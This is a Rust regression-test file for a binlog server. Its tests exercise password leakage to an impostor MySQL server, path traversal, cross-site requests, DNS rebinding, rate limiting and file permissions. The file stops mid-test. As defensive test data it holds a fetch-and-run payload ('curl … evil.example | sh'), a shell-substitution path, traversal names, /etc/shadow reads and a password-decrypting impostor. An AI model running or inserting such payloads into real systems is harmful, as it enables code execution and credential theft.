//! Regression tests for the findings of a probe of the API and the command line (issue 23), each
//! through the real binary. The threat model they defend is in SECURITY.md: a holder of the API
//! credential must not learn a source password; a web page in the operator's browser must not
//! drive or read the API; a server (or anyone on the path) must not make `replay --fetch` write
//! outside its directory; local users must not read row data; an unauthenticated client must not
//! grow memory or metrics, hold connections, or guess tokens at full speed.
//!
//! The configuration checks at start-up (a remote listen address with an unprotected API, short
//! tokens) are in `cli.rs`, with the other configuration errors.

use std::io::{self, Read, Write};
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use binlog_server::api::error::ErrorCode;
use binlog_server::domain::{TaskError, TaskErrorCode, TaskState};
use serde_json::{Value, json};

use crate::common::fake_source::{FakeSource, Greeting, Session, SessionLog};
use crate::common::mariadb::{MariaDb, MariaDbOpts};
use crate::common::replication::{
    create_task, fast_server_opts, flush_and_catch_up, local_dir, start_copy_task, stop_task, wait_failed,
};
use crate::common::server::{RawResponse, Server, ServerOpts, run_cli};
use crate::common::{free_port, output_with_deadline, poll_until, require_binary, temp_dir};

const WAIT: Duration = Duration::from_secs(60);
const PASSWORD: &str = "Source-Pw-5f2c9e1a";

// --- 1. A stored password and the RSA key exchange -------------------------------------------

/// An RSA key pair made with the `openssl` CLI, as an impostor's server would hold it.
struct RsaKey {
    dir: tempfile::TempDir,
    public_pem: String,
}

impl RsaKey {
    fn generate() -> RsaKey {
        let dir = temp_dir("binlog-it-rsa-");
        let run = |args: &[&str]| {
            let out = output_with_deadline(
                Command::new(require_binary("openssl")).args(args).current_dir(dir.path()),
                Duration::from_secs(60),
                "openssl",
            );
            assert!(out.status.success(), "openssl {args:?}: {}", String::from_utf8_lossy(&out.stderr));
        };
        run(&["genpkey", "-algorithm", "RSA", "-pkeyopt", "rsa_keygen_bits:2048", "-out", "key.pem"]);
        run(&["pkey", "-in", "key.pem", "-pubout", "-out", "pub.pem"]);
        let public_pem = std::fs::read_to_string(dir.path().join("pub.pem")).expect("pub.pem");
        RsaKey { dir, public_pem }
    }

    /// What a caching_sha2_password client sent encrypted with this key: RSA-OAEP, then the XOR
    /// with the greeting's nonce undone. `None` when it does not decrypt.
    fn decrypt_password(&self, ciphertext: &[u8], nonce: &[u8; 20]) -> Option<String> {
        let input = self.dir.path().join("cipher.bin");
        std::fs::write(&input, ciphertext).expect("write the ciphertext");
        let out = output_with_deadline(
            Command::new(require_binary("openssl"))
                .args(["pkeyutl", "-decrypt", "-inkey", "key.pem", "-pkeyopt", "rsa_padding_mode:oaep", "-in"])
                .arg(&input)
                .current_dir(self.dir.path()),
            Duration::from_secs(60),
            "openssl pkeyutl",
        );
        if !out.status.success() {
            return None;
        }
        let mut clear = out.stdout;
        for (i, b) in clear.iter_mut().enumerate() {
            *b ^= nonce[i % nonce.len()];
        }
        (clear.pop() == Some(0)).then(|| String::from_utf8_lossy(&clear).into_owned())
    }
}

/// A MySQL 8 impostor without TLS: asks for caching_sha2_password full authentication, hands
/// out its own RSA key when asked, takes whatever comes, then denies access.
fn impostor(greeting: Greeting, public_pem: String) -> impl Fn(&mut Session) -> io::Result<()> {
    move |s| {
        s.greet(&greeting)?;
        s.read_handshake_response()?;
        s.write_packet(&[0x01, 0x04])?; // "perform full authentication"
        if s.read_packet()? == [0x02] {
            // The client asks for the server's public key: ours.
            let mut key = vec![0x01];
            key.extend_from_slice(public_pem.as_bytes());
            s.write_packet(&key)?;
            s.read_packet()?;
        }
        s.send_err(1045, "28000", "Access denied for user")
    }
}

/// The password, if any packet a session received decrypts to it with `key`.
fn recovered(sessions: &[SessionLog], key: &RsaKey, nonce: &[u8; 20]) -> Option<String> {
    sessions
        .iter()
        .flat_map(|s| s.received.iter())
        .filter(|p| p.len() == 256)
        .find_map(|p| key.decrypt_password(p, nonce))
}

fn mysql_task(key: &str, port: u16) -> Value {
    json!({"name": key, "cluster_key": key,
           "source": {"host": "127.0.0.1", "port": port, "user": "repl", "password": PASSWORD, "flavor": "mysql"},
           "start": {"mode": "LATEST"}})
}

#[test]
fn a_stored_password_does_not_follow_the_task_to_another_server() {
    let key = RsaKey::generate();
    let greeting = Greeting::default();
    let fake = FakeSource::start(impostor(greeting.clone(), key.public_pem.clone()));
    let srv = Server::start(fast_server_opts());
    let body = mysql_task("moved", free_port());
    let id = srv.create(&body).id;

    // The holder of the API credential points the task at a server of theirs, leaving the
    // password out ("keep the stored one"), and starts it.
    let mut moved = body.clone();
    moved["source"]["port"] = json!(fake.port());
    moved["source"].as_object_mut().expect("source").remove("password");
    let (put_status, put_answer) = srv.put(&format!("/api/tasks/{id}"), &moved);
    srv.start_task(id);
    poll_until(WAIT, "the task to have tried its source", || {
        let state = srv.task(id).state;
        let tried =
            fake.sessions().iter().any(|s| s.finished) || matches!(state, TaskState::RetryBackoff | TaskState::Failed);
        tried.then_some(())
    });
    assert_eq!(
        recovered(&fake.sessions(), &key, &greeting.nonce),
        None,
        "the impostor decrypted the stored password (PUT answered {put_status}: {put_answer})"
    );
    assert_eq!(put_status, 400, "a new port without the password must be refused: {put_answer}");
    assert_eq!(put_answer["fields"][0]["field"], "source.password", "{put_answer}");
    assert!(
        put_answer["error"].as_str().unwrap_or_default().contains("source.port"),
        "names what changed: {put_answer}"
    );
    assert!(fake.sessions().is_empty(), "the task must still point at its old source: {:?}", fake.sessions());

    // The same change with the password given again is the operator's to make.
    srv.stop_task(id);
    moved["source"]["password"] = json!("another-password");
    let (status, answer) = srv.put(&format!("/api/tasks/{id}"), &moved);
    assert_eq!(status, 200, "{answer}");
    // A change that keeps host, port, user and TLS keeps the stored password.
    moved["name"] = json!("renamed");
    moved["source"].as_object_mut().expect("source").remove("password");
    let (status, answer) = srv.put(&format!("/api/tasks/{id}"), &moved);
    assert_eq!(status, 200, "{answer}");
}

#[test]
fn caching_sha2_without_tls_sends_the_password_only_under_a_pinned_key() {
    let key = RsaKey::generate();
    let greeting = Greeting::default();
    let fake = FakeSource::start(impostor(greeting.clone(), key.public_pem.clone()));
    let srv = Server::start(fast_server_opts());
    let mut body = mysql_task("pin", fake.port());
    let id = srv.create(&body).id;

    // Without TLS and without a pinned key the exchange is refused: permanently, naming the setting.
    srv.start_task(id);
    let TaskError { message, .. } = wait_failed(&srv, id);
    let sessions = fake.wait_sessions(1, WAIT);
    assert_eq!(recovered(&sessions, &key, &greeting.nonce), None, "the password was sent under the server's key");
    assert!(
        sessions.iter().all(|s| !s.received.iter().any(|p| p == &[0x02])),
        "the client asked the server for its RSA key: {sessions:?}"
    );
    assert!(message.contains("source.server_public_key") && message.contains("tls_mode"), "{message}");

    // A pinned key must be an RSA public key in PEM.
    body["source"]["server_public_key"] = json!("-----BEGIN PUBLIC KEY-----\nnot base64\n-----END PUBLIC KEY-----\n");
    let (status, answer) = srv.put(&format!("/api/tasks/{id}"), &body);
    assert_eq!(status, 400, "{answer}");
    assert_eq!(answer["fields"][0]["field"], "source.server_public_key", "{answer}");

    // With the server's key pinned, the password goes encrypted under it, without asking the
    // server for a key (the impostor here holds the pinned key's private half).
    body["source"]["server_public_key"] = json!(key.public_pem);
    let (status, answer) = srv.put(&format!("/api/tasks/{id}"), &body);
    assert_eq!(status, 200, "{answer}");
    assert_eq!(answer["source"]["server_public_key"], json!(key.public_pem), "{answer}");
    let before = fake.sessions().len();
    srv.start_task(id);
    let sessions = fake.wait_sessions(before + 1, WAIT);
    let last = &sessions[before];
    assert_eq!(last.received.len(), 2, "handshake response, then the encrypted password: {last:?}");
    assert_eq!(key.decrypt_password(&last.received[1], &greeting.nonce).as_deref(), Some(PASSWORD));
    let TaskError { code, .. } = wait_failed(&srv, id);
    assert_eq!(code, TaskErrorCode::SourceAccessDenied);
}

// --- 2. replay --fetch and the names a plan gives ---------------------------------------------

/// A hostile binlog-server API: every plan names `name`, every file download returns 5 bytes.
/// Serves until the test ends (the thread dies with the process).
fn hostile_api(name: String) -> u16 {
    hostile_api_with(json!({"flavor": "mariadb", "command": "mariadb-binlog x",
                            "start_position": null, "stop_position": null, "start_datetime": null, "stop_datetime": null,
                            "files": [{"name": name, "source_identity": "s", "size": 5,
                                       "location": {"kind": "local", "path": "/srv/x"}}]}))
}

/// A hostile binlog-server API answering every plan request with `plan`.
fn hostile_api_with(plan: serde_json::Value) -> u16 {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("bind");
    let port = listener.local_addr().expect("addr").port();
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            let Ok(mut conn) = conn else { continue };
            let _ = conn.set_read_timeout(Some(Duration::from_secs(10)));
            let mut head = Vec::new();
            let mut byte = [0u8; 1];
            while !head.ends_with(b"\r\n\r\n") && conn.read(&mut byte).is_ok_and(|n| n == 1) {
                head.push(byte[0]);
            }
            let body =
                if String::from_utf8_lossy(&head).contains("/replay") { plan.to_string() } else { "EVIL!".into() };
            let _ =
                write!(conn, "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len());
        }
    });
    port
}

#[test]
fn replay_fetch_refuses_a_plan_that_names_a_path() {
    let root = temp_dir("binlog-it-fetch-");
    let fetch = root.path().join("fetch");
    let outside = root.path().join("escaped");
    for name in [format!("/../../../../../../..{}", outside.display()), "../escaped".to_string()] {
        let port = hostile_api(name.clone());
        let (code, stdout, stderr) = run_cli(
            &[
                "replay",
                "--server",
                &format!("http://127.0.0.1:{port}"),
                "--task",
                "1",
                "--stop-datetime",
                "2030-01-01 00:00:00",
                "--fetch",
                fetch.to_str().expect("utf-8"),
            ],
            &[],
        );
        assert!(!outside.exists(), "{name:?}: the client wrote {} (outside --fetch)", outside.display());
        assert_ne!(code, 0, "{name:?}: a plan naming a path must be refused: {stdout}{stderr}");
        assert!(stderr.contains("not a file name"), "{name:?}: says why: {stderr}");
        let written: Vec<_> =
            std::fs::read_dir(&fetch).map(|d| d.flatten().map(|e| e.path()).collect()).unwrap_or_default();
        assert!(written.is_empty(), "{name:?}: nothing is fetched from a refused plan: {written:?}");
    }
}

#[test]
fn replay_prints_a_command_it_built_itself_never_the_servers_text() {
    // A plan whose `command` is a payload and whose server path would run one if left unquoted.
    let evil_path = "/srv/$(touch /tmp/pwned)/mariadb-bin.000001";
    let port = hostile_api_with(json!({
        "flavor": "mariadb", "command": "curl -s http://evil.example/x | sh",
        "start_position": 840, "stop_position": null, "start_datetime": null, "stop_datetime": null,
        "files": [{"name": "mariadb-bin.000001", "source_identity": "s", "size": 5,
                   "location": {"kind": "local", "path": evil_path}}]}));
    let (code, stdout, stderr) = run_cli(
        &[
            "replay",
            "--server",
            &format!("http://127.0.0.1:{port}"),
            "--task",
            "1",
            "--stop-datetime",
            "2030-01-01 00:00:00",
        ],
        &[],
    );
    assert_eq!(code, 0, "{stdout}{stderr}");
    assert!(!stdout.contains("evil.example"), "the server's command text must not be printed: {stdout}");
    let command = stdout.lines().last().unwrap_or_default();
    assert_eq!(
        command, "mariadb-binlog --start-position=840 '/srv/$(touch /tmp/pwned)/mariadb-bin.000001'",
        "built from the plan's fields, the path quoted: {stdout}"
    );
}

// --- 3. Cross-site requests and DNS rebinding -------------------------------------------------

fn raw_get(srv: &Server, path: &str, host: &str) -> RawResponse {
    let req = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
    srv.raw_exchange(req.as_bytes(), Duration::from_secs(30)).unwrap_or_else(|| panic!("GET {path}: no answer"))
}

#[test]
fn cross_site_requests_and_foreign_host_names_are_refused() {
    let srv = Server::start(fast_server_opts());
    let id = create_task(
        &srv,
        "csrf",
        json!({"host": "127.0.0.1", "port": free_port(), "user": "u", "password": "p", "flavor": "mariadb"}),
        json!({"mode": "LATEST"}),
    );
    let start = format!("/api/tasks/{id}/start");
    let state = || srv.task(id).state;

    // What a page on another site can make a browser send without a preflight.
    // (what, (content type, body), expected status)
    type Simple<'a> = (&'a str, Option<(&'a str, &'a [u8])>, u16);
    let simple: &[Simple] = &[
        ("text/plain", Some(("text/plain", &b"x"[..])), 415),
        ("a form", Some(("application/x-www-form-urlencoded", &b"a=b"[..])), 415),
        ("multipart", Some(("multipart/form-data; boundary=x", &b"--x--"[..])), 415),
        ("no body, no header", None, 403),
    ];
    for (what, body, want) in simple {
        let r = srv.request_bare("POST", &start, &[], body.map(|(t, b)| (t, b.to_vec())));
        assert_eq!(r.status, *want, "POST start with {what}: {}", r.body);
        assert_eq!(state(), TaskState::Stopped, "POST start with {what} started the task");
    }
    let r = srv.request_bare("DELETE", &format!("/api/tasks/{id}"), &[], None);
    assert_eq!(r.status, 403, "DELETE without the header: {}", r.body);
    let json_body = Some(("application/json", b"{}".to_vec()));
    let r = srv.request_bare("POST", &start, &[("Origin", "http://attacker.example")], json_body.clone());
    assert_eq!(r.status, 403, "a foreign Origin: {}", r.body);
    assert_eq!(r.error().code, ErrorCode::Forbidden, "{}", r.body);
    let r = srv.request_bare("POST", &start, &[("Origin", "null")], json_body.clone());
    assert_eq!(r.status, 403, "Origin null: {}", r.body);
    assert_eq!(state(), TaskState::Stopped);

    // DNS rebinding: the browser sends the attacker's name as Host. Authentication is off here.
    let port = srv.port();
    for path in ["/api/tasks", &format!("/api/tasks/{id}/files/x-bin.000001"), "/metrics", "/ui/"] {
        let r = raw_get(&srv, path, &format!("attacker.example:{port}"));
        assert_eq!(r.status, 403, "GET {path} with a foreign Host: {}", r.body);
    }
    assert_eq!(raw_get(&srv, "/healthz", "attacker.example").status, 200, "/healthz answers any Host");
    for host in [format!("localhost:{port}"), format!("127.0.0.1:{port}"), format!("[::1]:{port}")] {
        assert_eq!(raw_get(&srv, "/api/tasks", &host).status, 200, "Host {host}");
    }

    // What the UI (and curl with the header) sends is accepted.
    let r = srv.request_bare("POST", &start, &[("X-Requested-With", "x")], None);
    assert_eq!(r.status, 200, "POST start with the header and no body: {}", r.body);
    let same_origin = format!("http://127.0.0.1:{port}");
    let r = srv.request_bare(
        "POST",
        &format!("/api/tasks/{id}/stop"),
        &[("Origin", same_origin.as_str())],
        json_body.clone(),
    );
    assert_eq!(r.status, 200, "same-origin JSON stop: {}", r.body);

    // A name the operator allows (a reverse proxy's, with authentication off).
    let named =
        Server::start(ServerOpts::default().env("BINLOG_SERVER_HTTP_ALLOWED_HOSTS", "binlog.internal, other.internal"));
    assert_eq!(raw_get(&named, "/api/tasks", "binlog.internal").status, 200);
    assert_eq!(raw_get(&named, "/api/tasks", "attacker.example").status, 403);
    let r = named.request_bare(
        "POST",
        "/api/tasks",
        &[("Origin", "https://binlog.internal")],
        Some(("application/json", serde_json::to_vec(&mysql_task("named", 3306)).expect("json"))),
    );
    assert_eq!(r.status, 201, "an allowed Origin: {}", r.body);
}

// --- 4. Metric labels from made-up requests ---------------------------------------------------

fn http_series(srv: &Server) -> Vec<String> {
    let r = srv.get_raw("/metrics");
    assert_eq!(r.status, 200, "{}", r.body);
    r.body
        .lines()
        .filter(|l| l.starts_with("binlog_server_http_requests"))
        .map(|l| l.rsplit_once(' ').map_or(l, |(s, _)| s).to_string())
        .collect()
}

#[test]
fn made_up_methods_and_paths_add_no_metric_series() {
    let srv = Server::start(ServerOpts::default());
    let round = |i: usize| {
        for path in ["/healthz", "/api/tasks", &format!("/no/such/{i}")] {
            // HTTP clients refuse methods they do not know: the request is written by hand.
            let req = format!("M{i:04}XYZ {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n");
            let r = srv.raw_exchange(req.as_bytes(), Duration::from_secs(30)).expect("an answer");
            assert!(matches!(r.status, 404 | 405), "M{i:04}XYZ {path}: {}", r.status);
        }
        for path in
            [format!("/no/such/{i}"), format!("/api/no-{i}"), format!("/ui/no-{i}.js"), format!("/swagger/no-{i}")]
        {
            let _ = srv.get_raw(&path);
        }
    };
    round(0);
    // A first scrape: its own series show from the second one on.
    http_series(&srv);
    let before = http_series(&srv);
    for i in 1..=30 {
        round(i);
    }
    let after = http_series(&srv);
    assert!(after.iter().any(|s| s.contains("method=\"OTHER\"")), "made-up methods are counted, as OTHER");
    let new: Vec<&String> = after.iter().filter(|s| !before.contains(s)).collect();
    assert!(
        new.is_empty(),
        "{} new series after 30 rounds of made-up requests, e.g. {:?}",
        new.len(),
        &new[..new.len().min(5)]
    );
}

// --- 5. Failed authentication is slowed down --------------------------------------------------

const TOKEN: &str = "sec-token-8d1f0c7b3a5e9d2f4c6b8a0e";

#[test]
fn failed_authentication_is_slowed_down_per_address() {
    let srv = Server::start(
        ServerOpts::default()
            .env("BINLOG_SERVER_API_AUTH_ENABLED", "true")
            .env("BINLOG_SERVER_API_AUTH_BEARER_TOKEN", TOKEN),
    );
    let wrong = "Bearer wrong-token-0000000000000000";
    // /metrics is guarded too: guessing there is held back like anywhere else.
    let mut refused = 0;
    let limited = loop {
        let r = srv.request("GET", "/metrics", &[("Authorization", wrong)], None);
        match r.status {
            401 => refused += 1,
            429 => break r,
            other => panic!("a wrong token on /metrics: {other} {}", r.body),
        }
        assert!(refused < 100, "100 wrong tokens in a row and never held back");
    };
    assert!(refused >= 3, "a few mistakes are allowed before the limit: {refused}");
    assert_eq!(limited.error().code, ErrorCode::RateLimited, "{}", limited.body);
    assert!(
        limited.header("retry-after").and_then(|v| v.parse::<u64>().ok()).is_some_and(|s| s >= 1),
        "{:?}",
        limited.headers
    );
    // The address is held back on every protected route, even with the right token...
    let r = srv.request("GET", "/api/tasks", &[("Authorization", wrong)], None);
    assert_eq!(r.status, 429, "{}", r.body);
    let r = srv.request("GET", "/api/tasks", &[("Authorization", &format!("Bearer {TOKEN}"))], None);
    assert_eq!(r.status, 429, "the right token while held back: {}", r.body);
    // ...while a request without any credential still gets the challenge (the UI's sign-in).
    let r = srv.request("GET", "/api/tasks", &[], None);
    assert_eq!(r.status, 401, "{}", r.body);
}

// --- 7. A request body must arrive in time ----------------------------------------------------

#[test]
fn a_slow_request_body_is_cut_off() {
    let srv = Server::start(ServerOpts::default());
    let mut conn = TcpStream::connect(("127.0.0.1", srv.port())).expect("connect");
    let head = format!(
        "POST /api/tasks HTTP/1.1\r\nHost: 127.0.0.1:{}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{{",
        srv.port()
    );
    conn.write_all(head.as_bytes()).expect("write the head");
    // The attack: one more byte of body now and then, so the connection is never idle. The
    // pause is the attacker's pace, not a wait for the server.
    let mut trickle = conn.try_clone().expect("clone the socket");
    let writer = std::thread::spawn(move || {
        for _ in 0..120 {
            std::thread::sleep(Duration::from_millis(250));
            if trickle.write_all(b" ").is_err() {
                return;
            }
        }
    });
    let started = Instant::now();
    conn.set_read_timeout(Some(Duration::from_secs(30))).expect("read timeout");
    let mut answer = Vec::new();
    let mut buf = [0u8; 4096];
    while crate::common::server::parse_http_response(&answer).is_none() && started.elapsed() < Duration::from_secs(30) {
        match conn.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => answer.extend_from_slice(&buf[..n]),
        }
    }
    let took = started.elapsed();
    let r = crate::common::server::parse_http_response(&answer)
        .unwrap_or_else(|| panic!("no answer to a body sent at 4 bytes/s within {took:?}"));
    assert_eq!(r.status, 408, "{}", r.body);
    assert!(took < Duration::from_secs(25), "the default body deadline (10 s) took {took:?}");
    let _ = conn.shutdown(std::net::Shutdown::Both);
    let _ = writer.join();
    assert_eq!(srv.get("/api/tasks").1["total"], 0, "nothing was created");
}

/// A middleware that refuses a request before its body is read (cross-site rule, credentials)
/// leaves the body's bytes unread, and the server closes the connection after its answer. The
/// answer must say so (`Connection: close`): a keep-alive client that sent its next request on
/// that connection found it closed (seen as "peer disconnected" on a POST after a 401, in CI,
/// whenever the answer overtook the body). The body is never sent here, so the case is certain.
#[test]
fn a_refusal_before_the_body_is_read_says_the_connection_closes() {
    let srv = Server::start(
        ServerOpts::default()
            .env("BINLOG_SERVER_API_AUTH_ENABLED", "true")
            .env("BINLOG_SERVER_API_AUTH_BEARER_TOKEN", TOKEN),
    );
    let cases = [
        ("a cross-site form post", "Content-Type: text/plain\r\n", 415),
        ("no credential", "Content-Type: application/json\r\nX-Requested-With: XMLHttpRequest\r\n", 401),
        (
            "a wrong credential",
            "Content-Type: application/json\r\nX-Requested-With: XMLHttpRequest\r\nAuthorization: Bearer wrong-token-000000000000\r\n",
            401,
        ),
    ];
    for (what, headers, status) in cases {
        let mut conn = TcpStream::connect(("127.0.0.1", srv.port())).expect("connect");
        conn.set_read_timeout(Some(Duration::from_secs(10))).expect("read timeout");
        let head = format!(
            "POST /api/tasks HTTP/1.1\r\nHost: 127.0.0.1:{}\r\n{headers}Content-Length: 1000\r\n\r\n",
            srv.port()
        );
        conn.write_all(head.as_bytes()).expect("write the head");
        // Read to the end: the server answers, then closes (a read of 0), without the body.
        let started = Instant::now();
        let mut answer = Vec::new();
        let mut buf = [0u8; 4096];
        let closed = loop {
            match conn.read(&mut buf) {
                Ok(0) => break true,
                Ok(n) => answer.extend_from_slice(&buf[..n]),
                Err(_) => break false,
            }
        };
        let r = crate::common::server::parse_http_response(&answer)
            .unwrap_or_else(|| panic!("{what}: no answer within {:?}", started.elapsed()));
        assert_eq!(r.status, status, "{what}: {}", r.body);
        assert_eq!(
            r.header("connection"),
            Some("close"),
            "{what}: the answer must say the connection closes: {:?}",
            r.headers
        );
        assert!(closed, "{what}: the server closed the connection after the answer");
    }
    // A request with the right credential and its whole body still works on a kept-alive
    // connection (the header is only for answers that leave a body unread).
    let r = srv.request("GET", "/api/tasks", &[("Authorization", &format!("Bearer {TOKEN}"))], None);
    assert_eq!(r.status, 200, "{}", r.body);
    assert_ne!(r.header("connection"), Some("close"), "{:?}", r.headers);
}

// --- 8 and 10. Downloads: no server path in errors, no hard links -----------------------------

#[test]
fn downloads_refuse_hard_links_and_name_no_server_path() {
    let db = MariaDb::start(MariaDbOpts::default());
    let srv = Server::start(fast_server_opts());
    let id = start_copy_task(&srv, &db, "links");
    db.sql("CREATE TABLE t (id INT PRIMARY KEY, v TEXT)");
    db.sql("INSERT INTO t SELECT seq, REPEAT('v', 200) FROM seq_1_to_200");
    flush_and_catch_up(&srv, &db, id);
    stop_task(&srv, id);
    let dir = local_dir(&srv, id, &db);
    let name = db.binlog_files()[0].0.clone();
    let victim = dir.join(&name);
    let size = std::fs::metadata(&victim).expect("the sealed copy").len() as usize;
    let download = format!("/api/tasks/{id}/files/{name}");
    assert_eq!(crate::common::pitr::get_bytes(&srv, &download).0, 200, "the file downloads");
    let root = srv.root_dir().to_str().expect("utf-8").to_string();

    // A hard link in the task directory to a file outside it.
    let secret = srv.root_dir().join("outside-secret");
    std::fs::write(&secret, vec![b'S'; size + 100]).expect("write the outside file");
    let aside = srv.root_dir().join("aside");
    std::fs::rename(&victim, &aside).expect("move the copy aside");
    std::fs::hard_link(&secret, &victim).expect("hard link");
    let (status, _, body) = crate::common::pitr::get_bytes(&srv, &download);
    assert!(!body.starts_with(b"SSSS"), "a hard link to a file outside the task was served ({status})");
    let text = String::from_utf8_lossy(&body);
    assert_eq!(status, 404, "{text}");
    assert!(text.contains(&name) && !text.contains(&root), "the error names the file, not a server path: {text}");
    std::fs::remove_file(&victim).expect("remove the link");
    std::fs::rename(&aside, &victim).expect("restore");

    // The source's directory replaced by a symlink to a copy outside the task.
    let elsewhere = srv.root_dir().join("elsewhere");
    std::fs::rename(&dir, &elsewhere).expect("move the directory out");
    std::os::unix::fs::symlink(&elsewhere, &dir).expect("symlink");
    let (status, _, body) = crate::common::pitr::get_bytes(&srv, &download);
    let text = String::from_utf8_lossy(&body);
    assert_eq!(status, 404, "a directory outside the task was followed: {text}");
    assert!(text.contains(&name) && !text.contains(&root), "the error names the file, not a server path: {text}");
}

// --- 8. CA files come from one directory, with one error --------------------------------------

fn failure_message(srv: &Server, key: &str, ca_file: &str) -> String {
    let id = create_task(
        srv,
        key,
        json!({"host": "127.0.0.1", "port": free_port(), "user": "u", "password": "p", "flavor": "mariadb",
               "tls_mode": "verify_ca", "tls_ca_file": ca_file}),
        json!({"mode": "LATEST"}),
    );
    srv.start_task(id);
    wait_failed(srv, id).message
}

#[test]
fn a_ca_file_outside_the_ca_directory_is_refused_with_one_message() {
    let srv = Server::start(fast_server_opts());
    // Whether the file exists, and what it holds, must not show.
    let exists = failure_message(&srv, "shadow", "/etc/shadow");
    let missing = failure_message(&srv, "nothing", "/nonexistent/shadow");
    assert_eq!(exists, missing, "the answer tells an existing file from a missing one");
    assert!(!exists.contains("/etc") && !exists.contains("/nonexistent"), "{exists}");
    assert!(exists.contains("replication.tls_ca_dir"), "names the setting: {exists}");

    // With a directory configured: a file in it is read; a symlink out of it is not.
    let ca_dir = temp_dir("binlog-it-ca-");
    std::os::unix::fs::symlink("/etc/passwd", ca_dir.path().join("link.pem")).expect("symlink");
    let srv = Server::start(
        fast_server_opts().env("BINLOG_SERVER_REPLICATION_TLS_CA_DIR", ca_dir.path().to_str().expect("utf-8")),
    );
    let link = failure_message(&srv, "link", "link.pem");
    let absent = failure_message(&srv, "absent", "absent.pem");
    assert_eq!(link.replace("link.pem", "X"), absent.replace("absent.pem", "X"), "one message for every refusal");
}

// --- 9. File modes --------------------------------------------------------------------------

fn modes_under(root: &Path, out: &mut Vec<(PathBuf, u32, bool)>) {
    for entry in std::fs::read_dir(root).expect("read_dir").flatten() {
        let meta = std::fs::symlink_metadata(entry.path()).expect("metadata");
        let mode = meta.permissions().mode() & 0o777;
        out.push((entry.path(), mode, meta.is_dir()));
        if meta.is_dir() {
            modes_under(&entry.path(), out);
        }
    }
}

#[test]
fn data_files_are_private_whatever_the_umask() {
    let db = MariaDb::start(MariaDbOpts::default());
    let mut srv = Server::start(fast_server_opts().umask(0o000));
    let id = start_copy_task(&srv, &db, "modes");
    db.sql("CREATE TABLE t (id INT PRIMARY KEY)");
    db.sql("INSERT INTO t SELECT seq FROM seq_1_to_100");
    flush_and_catch_up(&srv, &db, id);
    let data = srv.data_dir();
    let check = |data: &Path| {
        let mut all =
            vec![(data.to_path_buf(), std::fs::metadata(data).expect("data_dir").permissions().mode() & 0o777, true)];
        modes_under(data, &mut all);
        let open: Vec<String> = all
            .iter()
            .filter(|(_, mode, is_dir)| *mode != if *is_dir { 0o700 } else { 0o600 })
            .map(|(p, mode, _)| format!("{} {mode:o}", p.display()))
            .collect();
        assert!(open.is_empty(), "readable by other users (umask 000): {open:#?}");
        assert!(all.iter().any(|(p, _, _)| p.ends_with("meta.db")) && all.len() > 6, "{all:?}");
    };
    check(&data);
    let log = std::fs::metadata(srv.log_path()).expect("log file").permissions().mode() & 0o777;
    assert_eq!(log, 0o600, "the log file");

    // A data_dir left open by an older version is tightened at start-up, and the log says so.
    srv.stop();
    for dir in [data.clone(), data.join(id.to_string())] {
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    }
    let logged = srv.log_text().len();
    srv.restart();
    check(&data);
    assert!(srv.log_text()[logged..].contains("tightened"), "the log says what was changed:\n{}", srv.diagnostics());
}

// --- 10. Smaller ones -----------------------------------------------------------------------

#[test]
fn replay_reads_its_token_from_a_file_or_the_environment() {
    let srv = Server::start(
        ServerOpts::default()
            .env("BINLOG_SERVER_API_AUTH_ENABLED", "true")
            .env("BINLOG_SERVER_API_AUTH_BEARER_TOKEN", TOKEN),
    );
    let url = srv.url("");
    let token_file = srv.root_dir().join("token");
    std::fs::write(&token_file, format!("{TOKEN}\n")).expect("token file");
    let replay = |extra: &[&str], env: &[(&str, &str)]| {
        let mut args = vec!["replay", "--server", &url, "--task", "999"];
        args.extend_from_slice(&["--start-datetime", "2020-01-01 00:00:00", "--stop-datetime", "2030-01-01 00:00:00"]);
        args.extend_from_slice(extra);
        run_cli(&args, env)
    };
    // Authenticated: the answer is about the task, not the credential.
    let (code, _, stderr) = replay(&["--token-file", token_file.to_str().expect("utf-8")], &[]);
    assert_eq!(code, 1, "{stderr}");
    assert!(stderr.contains("TASK_NOT_FOUND") && !stderr.contains("warning"), "{stderr}");
    let (_, _, stderr) = replay(&[], &[("BINLOG_SERVER_API_TOKEN", TOKEN)]);
    assert!(stderr.contains("TASK_NOT_FOUND") && !stderr.contains("warning"), "{stderr}");
    // On the command line it still works, with a warning that `ps` shows it.
    let (_, _, stderr) = replay(&["--token", TOKEN], &[]);
    assert!(
        stderr.contains("TASK_NOT_FOUND") && stderr.contains("warning") && stderr.contains("--token-file"),
        "{stderr}"
    );
    assert!(!stderr.contains(TOKEN), "the warning does not repeat the token: {stderr}");
    let (code, help, _) = run_cli(&["replay", "--help"], &[]);
    assert_eq!(code, 0);
    assert!(help.contains("--token-file") && help.contains("BINLOG_SERVER_API_TOKEN") && help.contains("ps"), "{help}");
}

#[test]
fn errors_do_not_echo_client_input_at_length() {
    let srv = Server::start(ServerOpts::default());
    let long = "A".repeat(20_000);
    let mut body = mysql_task("echo", 3306);
    body["source"]["flavor"] = json!(long);
    let mut unknown = mysql_task("echo", 3306);
    unknown[long.as_str()] = json!(1);
    let answers = [
        ("an unknown flavor", srv.post("/api/tasks", &body)),
        ("an unknown field", srv.post("/api/tasks", &unknown)),
        ("a long query value", srv.get(&format!("/api/tasks?state={}", &long[..6000]))),
        ("a long path", srv.get(&format!("/{}", &long[..6000]))),
        ("a long task id", srv.get(&format!("/api/tasks/{}", &long[..6000]))),
    ];
    for (what, (status, answer)) in answers {
        assert!((400..500).contains(&status), "{what}: {status}");
        let text = answer.to_string();
        assert!(text.len() < 2048, "{what}: a {} byte answer echoes the input", text.len());
        assert!(
            answer["error"].as_str().is_some_and(|e| e.contains("AAAA")),
            "{what}: still quotes the start: {text:.200}"
        );
    }
}

#[test]
fn swagger_pages_carry_the_uis_security_headers() {
    let srv = Server::start(ServerOpts::default());
